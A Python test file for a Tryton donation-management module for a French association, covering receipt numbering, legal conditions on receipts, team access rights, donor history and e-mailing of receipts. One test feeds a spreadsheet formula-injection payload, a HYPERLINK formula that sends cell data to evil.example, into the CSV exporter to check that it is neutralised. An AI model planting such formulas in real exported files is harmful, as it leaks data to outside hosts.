import datetime as dt
import io
import unittest
from decimal import Decimal

from trytond import backend
from trytond.model.exceptions import AccessError
from trytond.modules.company.tests import create_company, set_company
from trytond.pool import Pool
from trytond.tests.test_tryton import ModuleTestCase, with_transaction
from trytond.transaction import Transaction, TransactionError

from ..words import amount_to_words
from ..exceptions import ReceiptRefusedError
from .support import (
    Mailbox, donor_address, legal_association, loopback_smtp)
from connexion_asso.tests.party_tests import PartyFieldsMixin


def create_validated_donations(company, count):
    "Validated gifts without move: enough to issue receipts."
    pool = Pool()
    Party = pool.get('party.party')
    Donation = pool.get('connexion.donation')
    legal_association()
    party, = Party.create([{'name': "Armelle Dujardin",
                'addresses': donor_address()}])
    return Donation.create([{
                'company': company.id, 'party': party.id,
                'currency': company.currency.id,
                'date': dt.date(2025, 1, 1 + i),
                'amount': Decimal(10 + i), 'payment_method': 'transfer',
                'state': 'validated'} for i in range(count)])


def issue_in_new_transaction(donation_id, then=None):
    """Issue a receipt in a transaction of its own, retried as trytond's
    dispatcher does; `then(number)` runs before the transaction ends."""
    pool = Pool()
    Receipt = pool.get('connexion.donation.receipt')
    Donation = pool.get('connexion.donation')
    extras = {}
    while True:
        with Transaction().new_transaction(**extras) as transaction:
            try:
                receipt, = Receipt.issue([[Donation(donation_id)]])
            except TransactionError as e:
                transaction.rollback()
                e.fix(extras)
                continue
            number = receipt.number
            if then:
                then(number)
            transaction.commit()
            return number


def make_user(login, group, company):
    "A user of one group of connexion_asso (a team, or portal volunteers)."
    pool = Pool()
    User = pool.get('res.user')
    ModelData = pool.get('ir.model.data')
    user, = User.create([{'login': login, 'name': login.title(),
                'companies': [('add', [company.id])], 'company': company.id,
                'groups': [('add', [
                            ModelData.get_id('connexion_asso', group)])]}])
    return user


def pdf_text(content):
    from pypdf import PdfReader
    return ' '.join(' '.join(p.extract_text().split())
        for p in PdfReader(io.BytesIO(content)).pages)


class DonationTestCase(PartyFieldsMixin, ModuleTestCase):
    "Test Connexion Donation module"
    module = 'connexion_donation'

    def test_amount_to_words(self):
        "Amounts are written in words as French accountants do"
        for amount, words in [
                ('1', "un euro"),
                ('21', "vingt et un euros"),
                ('71', "soixante et onze euros"),
                ('80', "quatre-vingts euros"),
                ('91.50', "quatre-vingt-onze euros et cinquante centimes"),
                ('200', "deux cents euros"),
                ('280000', "deux cent quatre-vingt mille euros"),
                ('1000000', "un million d'euros"),
                ('1250.01', "mille deux cent cinquante euros et un centime"),
                ]:
            with self.subTest(amount=amount):
                self.assertEqual(amount_to_words(Decimal(amount)), words)

    @with_transaction()
    def test_cer_csv_formulas(self):
        "CER file: names that start like formulas are text, amounts numbers"
        import csv

        from ..cer import to_csv
        lines = [{'section': "Emplois", 'reference': '1',
                'heading': '=1+1', 'amount': Decimal('-12.50'),
                'total': False}]
        details = [
            ('6068', '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
                '@SUM(1+1)', Decimal('-3.00')),
            ('626', '-1+1', '+1', Decimal('4.00')),
            ('627', '\t=1+1', 'Frais', Decimal('0.50'))]
        content = to_csv(lines, details, Decimal('0.3521'))
        rows = list(csv.reader(io.StringIO(content.decode('utf-8-sig')),
                delimiter=';'))
        self.assertEqual(rows[1], ["Emplois", '1', "'=1+1", '-12,50'])
        self.assertIn(['6068', """'=HYPERLINK("http://evil.example/?"&A1;"""
                '"Voir")', "'@SUM(1+1)", '-3,00'], rows)
        self.assertIn(['626', "'-1+1", "'+1", '4,00'], rows)
        self.assertIn(['627', "'\t=1+1", 'Frais', '0,50'], rows)
        self.assertIn(['', '', 'Share of public generosity in resources',
                '35,21 %'], rows)

    @with_transaction()
    def test_receipt_numbers_follow(self):
        "Receipts of a year are numbered 1, 2, 3 and restart each year"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        company = create_company()
        with set_company(company):
            d1, d2, d3 = create_validated_donations(company, 3)
            r1, r2 = Receipt.issue([[d1], [d2]], date=dt.date(2025, 12, 31))
            r3, = Receipt.issue([[d3]], date=dt.date(2026, 1, 2))
        self.assertEqual([r1.number, r2.number, r3.number],
            ['2025-00001', '2025-00002', '2026-00001'])

    @with_transaction()
    def test_receipt_frozen(self):
        "An issued receipt cannot be changed, deleted nor duplicated"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        Donation = pool.get('connexion.donation')
        company = create_company()
        with set_company(company):
            donation, = create_validated_donations(company, 1)
            receipt, = Receipt.issue([[donation]])
            with self.assertRaises(AccessError):
                Receipt.write([receipt], {'amount': Decimal(1)})
            with self.assertRaises(AccessError):
                Receipt.delete([receipt])
            with self.assertRaises(AccessError):
                Receipt.copy([receipt])
            with self.assertRaises(AccessError):
                Donation.write([donation], {'amount': Decimal(1)})
            Receipt.cancel([receipt])
            # Released by the cancellation, the gift can be corrected.
            Donation.write([donation], {'amount': Decimal(1)})

    @with_transaction()
    def test_receipt_refused_without_quality(self):
        "No receipt from an association neither of general interest nor "
        "recognised of public utility; the quality set is the one printed"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        company = create_company()
        with set_company(company):
            donation, = create_validated_donations(company, 1)
            legal_association(general_interest=False, public_utility=False)
            with self.assertRaises(ReceiptRefusedError) as cm:
                Receipt.issue([[donation]])
            self.assertIn("general interest", cm.exception.message)
            self.assertIn("public utility", cm.exception.message)
            self.assertIsNone(donation.receipt)

            legal_association(general_interest=True)
            receipt, = Receipt.issue([[donation]])
            text = pdf_text(Receipt.render_pdf([receipt.id]))
        self.assertIn("Qualité de l'organisme : œuvre ou organisme "
            "d'intérêt général", text)
        self.assertNotIn("utilité publique", text)

    @with_transaction()
    def test_receipt_refused_public_utility_without_decree(self):
        "Public utility needs its decree date and Journal officiel "
        "reference, printed on the receipt"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        company = create_company()
        with set_company(company):
            donation, = create_validated_donations(company, 1)
            legal_association(general_interest=False, public_utility=True)
            with self.assertRaises(ReceiptRefusedError) as cm:
                Receipt.issue([[donation]])
            self.assertIn("decree", cm.exception.message)
            legal_association(
                public_utility_decree_date=dt.date(1998, 3, 12))
            with self.assertRaises(ReceiptRefusedError):
                Receipt.issue([[donation]])
            legal_association(public_utility_journal="JO du 19/03/1998")
            receipt, = Receipt.issue([[donation]])
            text = pdf_text(Receipt.render_pdf([receipt.id]))
        self.assertIn("Qualité de l'organisme : association ou fondation "
            "reconnue d'utilité publique par décret en date du 12/03/1998, "
            "publié au Journal officiel : JO du 19/03/1998", text)
        self.assertNotIn("œuvre ou organisme d'intérêt général", text)

    @with_transaction()
    def test_receipt_refused_incomplete_address(self):
        "No receipt to a donor without a complete postal address"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        Party = pool.get('party.party')
        Address = pool.get('party.address')
        company = create_company()
        with set_company(company):
            donation, = create_validated_donations(company, 1)
            party = donation.party
            address, = party.addresses
            Address.write([address], {'postal_code': None})
            with self.assertRaises(ReceiptRefusedError) as cm:
                Receipt.issue([[donation]])
            self.assertIn("Armelle Dujardin", cm.exception.message)
            self.assertIn("Postal Code", cm.exception.message)
            self.assertNotIn("City", cm.exception.message)
            Address.delete([address])
            with self.assertRaises(ReceiptRefusedError) as cm:
                Receipt.issue([[donation]])
            self.assertIn("Street", cm.exception.message)
            self.assertIn("City", cm.exception.message)
            Party.write([party], {'addresses': donor_address()})
            receipt, = Receipt.issue([[donation]])
        self.assertIn("21000 Dijon", receipt.donor_address)

    @with_transaction()
    def test_receipt_refused_company_without_siren(self):
        "A company donor needs its SIREN and legal form, both printed"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        Party = pool.get('party.party')
        Donation = pool.get('connexion.donation')
        company = create_company()
        with set_company(company):
            legal_association()
            bakery, = Party.create([{'name': "Boulangerie du Four",
                        'donor_type': 'company',
                        'addresses': donor_address("9 rue du Four")}])
            donation, = Donation.create([{
                        'company': company.id, 'party': bakery.id,
                        'donor_type': 'company',
                        'currency': company.currency.id,
                        'date': dt.date(2025, 5, 2), 'amount': Decimal(500),
                        'payment_method': 'transfer',
                        'state': 'validated'}])
            with self.assertRaises(ReceiptRefusedError) as cm:
                Receipt.issue([[donation]])
            self.assertIn("SIREN", cm.exception.message)
            self.assertIn("Legal Form", cm.exception.message)
            Party.write([bakery], {'legal_form': "SARL"})
            with self.assertRaises(ReceiptRefusedError) as cm:
                Receipt.issue([[donation]])
            self.assertNotIn("Legal Form", cm.exception.message)
            Party.write([bakery], {'identifiers': [('create', [{
                                'type': 'fr_siren', 'code': '732829320'}])]})
            receipt, = Receipt.issue([[donation]])
            text = pdf_text(Receipt.render_pdf([receipt.id]))
        self.assertIn("Forme juridique : SARL", text)
        self.assertIn("SIREN : 732829320", text)

    @unittest.skipIf(backend.name == 'sqlite',
        "SQLite locks the whole database file")
    @with_transaction()
    def test_receipt_numbers_gapless_concurrent(self):
        "Two users issuing receipts at once: no duplicate, no gap"
        pool = Pool()
        Receipt = pool.get('connexion.donation.receipt')
        transaction = Transaction()
        company = create_company()
        with set_company(company):
            d1, d2, d3 = create_validated_donations(company, 3)
            transaction.commit()
            seen = []

            def second_user(number):
                # While the first generation is not committed, a second one
                # cannot take a number.
                seen.append(number)
                with self.assertRaises(backend.DatabaseOperationalError):
                    issue_in_new_transaction(d2.id)

            first = issue_in_new_transaction(d1.id, then=second_user)
            second = issue_in_new_transaction(d2.id)

            # A generation rolled back leaves no hole in the numbering.
            extras = {}
            while True:
                with transaction.new_transaction(**extras) as rolled_back:
                    try:
                        receipt, = Receipt.issue([[d3]])
                    except TransactionError as e:
                        rolled_back.rollback()
                        e.fix(extras)
                        continue
                    lost = receipt.number
                    rolled_back.rollback()
                    break
            third = issue_in_new_transaction(d3.id)

        year = dt.date.today().year
        self.assertEqual(seen, [f'{year}-00001'])
        self.assertEqual([first, second, lost, third],
            [f'{year}-00001', f'{year}-00002', f'{year}-00003',
                f'{year}-00003'])

    @with_transaction()
    def test_access_per_team(self):
        "Fundraising and finances manage gifts; Dreams, Hospitals and portal "
        "volunteers cannot even read them, nor the donors' totals"
        pool = Pool()
        Donation = pool.get('connexion.donation')
        Receipt = pool.get('connexion.donation.receipt')
        Party = pool.get('party.party')
        company = create_company()
        with set_company(company):
            donation, = create_validated_donations(company, 1)
            party = donation.party
            for login, group, allowed in [
                    ('collecte', 'group_team_fundraising', True),
                    ('finances', 'group_team_admin', True),
                    ('reves', 'group_team_dreams', False),
                    ('hopitaux', 'group_team_hospitals', False),
                    ('benevole', 'group_volunteer', False),
                    ]:
                user = make_user(login, group, company)
                with self.subTest(team=login), \
                        Transaction().set_user(user.id), \
                        Transaction().set_context(_check_access=True):
                    if allowed:
                        self.assertEqual(Donation.search(
                                [('state', '=', 'validated')]), [donation])
                        draft, = Donation.create([{
                                    'company': company.id,
                                    'party': party.id,
                                    'currency': company.currency.id,
                                    'amount': Decimal(5),
                                    'payment_method': 'cash'}])
                        Donation.write([draft], {'amount': Decimal(6)})
                        Receipt.search([])
                        total = Party.read([party.id], ['donation_total'])
                        self.assertEqual(
                            total[0]['donation_total'], Decimal(10))
                    else:
                        with self.assertRaises(AccessError):
                            Donation.search([])
                        with self.assertRaises(AccessError):
                            Donation.read([donation.id], ['amount'])
                        with self.assertRaises(AccessError):
                            Receipt.search([])
                        if group != 'group_volunteer':
                            with self.assertRaises(AccessError):
                                Party.read([party.id], ['donation_total'])

    @with_transaction()
    def test_donor_history(self):
        "Totals, first and last gift, lapsed donors (LYBUNT, SYBUNT)"
        pool = Pool()
        Party = pool.get('party.party')
        Donation = pool.get('connexion.donation')
        DonorYear = pool.get('connexion.donation.donor_year')
        this_year = dt.date.today().year
        company = create_company()
        with set_company(company):
            loyal, lapsed, older, new = Party.create([
                    {'name': n} for n in ["Fidèle", "Perdue", "Ancienne",
                        "Nouvelle"]])
            values = []
            for party, years in [(loyal, [this_year - 2, this_year - 1,
                            this_year]),
                    (lapsed, [this_year - 2, this_year - 1]),
                    (older, [this_year - 3]), (new, [this_year])]:
                for year in years:
                    values.append({'company': company.id,
                            'party': party.id,
                            'currency': company.currency.id,
                            'date': dt.date(year, 1, 1),
                            'amount': Decimal(year - 2000),
                            'payment_method': 'transfer',
                            'state': 'validated'})
            # A draft gift counts for nothing.
            values.append(dict(values[-1], state='draft',
                    amount=Decimal(1000)))
            Donation.create(values)
            lapsed = Party(lapsed.id)
            self.assertEqual(lapsed.donation_count, 2)
            self.assertEqual(lapsed.donation_total,
                Decimal(2 * this_year - 4003))
            self.assertEqual(lapsed.first_donation_date,
                dt.date(this_year - 2, 1, 1))
            self.assertEqual(lapsed.last_donation_date,
                dt.date(this_year - 1, 1, 1))
            self.assertEqual(Party(new.id).donation_year_total,
                Decimal(this_year - 2000))
            self.assertEqual(
                Party.search([('lybunt', '=', True)]), [lapsed])
            self.assertEqual(
                Party.search([('sybunt', '=', True)]), [Party(older.id)])
            self.assertEqual([p.lybunt for p in Party.browse(
                            [loyal, lapsed, older, new])],
                [False, True, False, False])
            self.assertNotIn(lapsed, Party.search([('lybunt', '=', False)]))
            years = DonorYear.search([('party', '=', loyal.id)])
            self.assertEqual([(y.year, y.count, y.amount) for y in years],
                [(str(y), 1, Decimal(y - 2000)) for y in [
                        this_year, this_year - 1, this_year - 2]])

    @with_transaction()
    def test_receipt_email_resumes(self):
        "Receipts are e-mailed with their PDF, each donor once, even when "
        "the mail server fails halfway and the sending is started again"
        pool = Pool()
        Party = pool.get('party.party')
        Donation = pool.get('connexion.donation')
        Receipt = pool.get('connexion.donation.receipt')
        company = create_company()
        with set_company(company):
            legal_association()
            parties = Party.create([{
                        'name': f"Donatrice {i}",
                        'addresses': donor_address(),
                        'contact_mechanisms': [('create', [{
                                        'type': 'email',
                                        'value': f'donatrice{i}@exemple.test',
                                        }])] if i < 3 else [],
                        } for i in range(4)])
            donations = Donation.create([{
                        'company': company.id, 'party': p.id,
                        'currency': company.currency.id,
                        'date': dt.date(2025, 3, 1),
                        'amount': Decimal(40 + i),
                        'payment_method': 'transfer',
                        'state': 'validated'}
                    for i, p in enumerate(parties)])
            receipts = Receipt.issue([[d] for d in donations],
                kind='annual', date=dt.date(2026, 1, 10))
            queued, without = Receipt.queue_email(receipts)
            self.assertEqual(len(queued), 3)
            self.assertEqual([r.donor_name for r in without],
                ["Donatrice 3"])

            with loopback_smtp(Mailbox(refuse_after=2)) as mailbox:
                self.assertEqual(Receipt.send_queued(), 2)
            self.assertEqual(len(mailbox.received), 2)
            failed = Receipt(queued[2].id)
            self.assertEqual(failed.email_state, 'queued')
            self.assertIn('451', failed.email_error)

            with loopback_smtp(Mailbox()) as second:
                self.assertEqual(Receipt.send_queued(), 1)
                # Nothing left: sending again sends nothing.
                self.assertEqual(Receipt.send_queued(), 0)
                Receipt.queue_email(receipts)
                self.assertEqual(Receipt.send_queued(), 0)
            recipients = [r for m in (mailbox, second)
                for r, _ in m.received]
            self.assertEqual(sorted(recipients), [
                    [f'donatrice{i}@exemple.test'] for i in range(3)])
            self.assertEqual(
                [r.email_state for r in Receipt.browse(receipts)],
                ['sent', 'sent', 'sent', None])

            _, message = second.received[0]
            self.assertIn(failed.number, message['Subject'])
            attachment, = [p for p in message.walk()
                if p.get_content_type() == 'application/pdf']
            text = pdf_text(attachment.get_payload(decode=True))
            for mention in [failed.number, "Donatrice 2", "***42,00 €***",
                    "quarante-deux euros", "☒ 200 du CGI"]:
                self.assertIn(mention, text)


del ModuleTestCase
